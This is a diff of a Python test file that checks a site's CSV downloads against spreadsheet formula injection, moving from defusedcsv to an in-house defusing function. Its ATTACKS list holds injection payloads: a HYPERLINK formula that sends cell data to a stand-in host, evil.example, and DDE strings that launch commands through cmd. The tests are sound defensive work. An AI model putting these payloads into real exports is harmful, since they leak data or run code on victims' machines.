@@ -1,5 +1,5 @@
 """CSV formula injection: no cell of any CSV download can run as a formula in a spreadsheet (OWASP's
-rule, applied by defusedcsv), while numbers stay numbers and the JSON keeps the text exactly."""
+rule, macros/publish/spreadsheet.py), while numbers stay numbers and the JSON keeps the text exactly."""
 
 from __future__ import annotations
 
@@ -12,11 +12,12 @@ import typing
 import pytest
 
 from macros.data import model
-from macros.publish.exports import DATASETS, csv_file, export_files
+from macros.publish.exports import DATASETS, export_files
+from macros.publish.spreadsheet import csv_file
 
-FORMULA_STARTS = ("=", "+", "-", "@", "|", "%", "\t", "\r")  # OWASP's list, with | and % for some spreadsheets
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
 ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/c calc'!A1",
-           "|calc", "%0A=1"]
+           "\t=1+1", "\r=1+1", "=1+1", "-3.5e"]
 
 
 def cells(data: bytes) -> list[list[str]]:
@@ -50,14 +51,14 @@ def value_for(annotation, index: int):
 def test_every_text_column_of_every_csv_is_neutralised_and_numbers_stay_numbers(dataset):
     fields = dataset.row.model_fields
     row = dataset.row(**{name: value_for(info.annotation, i) for i, (name, info) in enumerate(fields.items())})
-    data = csv_file(dataset.row, [row])
+    data = csv_file(dataset.row.columns(), [row.model_dump(mode="json")])
     assert_no_formula(data, dataset.name)
     header, written = cells(data)
     dumped = row.model_dump(mode="json")
     for column, cell in zip(header, written, strict=True):
         value = dumped[column]
         if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-            assert cell == "'" + value.replace("|", "\\|"), column  # defusedcsv also escapes | inside
+            assert cell == "'" + value, column
         elif isinstance(value, (int, float)):
             assert float(cell) == value, column  # -1 and -3.5 are still numbers
 
@@ -85,6 +86,13 @@ def test_formulas_written_by_a_clerk_are_neutralised_in_the_built_downloads(proj
 def test_the_real_downloads_have_no_cell_that_runs_as_a_formula(real_site):
     for dataset in DATASETS:
         assert_no_formula((real_site.folder / "data" / f"{dataset.name}.csv").read_bytes(), dataset.name)
+
+
+def test_numbers_and_ordinary_text_are_left_as_they_are():
+    from macros.publish.spreadsheet import defused
+
+    assert [defused(v) for v in (-3.5, "-3.5", "-12", "%", "a=b", "", None, 7)] == [-3.5, "-3.5", "-12", "%", "a=b", "",
+                                                                                   "", 7]
 
 
 def test_the_data_page_explains_the_apostrophe(real_site):
